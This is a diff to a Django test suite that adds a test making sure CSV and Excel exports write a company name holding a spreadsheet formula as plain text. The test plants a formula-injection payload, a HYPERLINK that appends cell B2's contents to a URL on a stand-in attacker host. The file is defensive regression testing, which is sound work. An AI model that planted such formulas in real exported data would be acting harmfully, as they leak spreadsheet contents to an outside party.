@@ -138,3 +138,18 @@ def test_candidates_read_in_several_chunks_give_the_same_list(world, population,
         (row.enterprise.pk, row.verdict) for row in whole.rows
     ]
     assert [row.enterprise.name for row in chunked.rows] == ["上海登记甲有限公司"]
+
+
+def test_exports_write_a_formula_name_as_text(world, population, client):
+    attack = '=HYPERLINK("http://evil.example/?"&B2,"点击")'
+    Enterprise.objects.filter(pk=population["register"].pk).update(name=attack)
+    client.force_login(world.reviewer)
+    url = reverse("applications:auto_grant")
+    exported = client.get(url, {"benefit": world.benefit.pk, "format": "csv"})
+    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
+    assert rows[1][0] == "'" + attack  # a spreadsheet shows it as text
+    workbook = load_workbook(
+        io.BytesIO(client.get(url, {"benefit": world.benefit.pk, "format": "xlsx"}).content)
+    )
+    cell = workbook.active["A2"]
+    assert cell.value == attack and cell.data_type == "s"
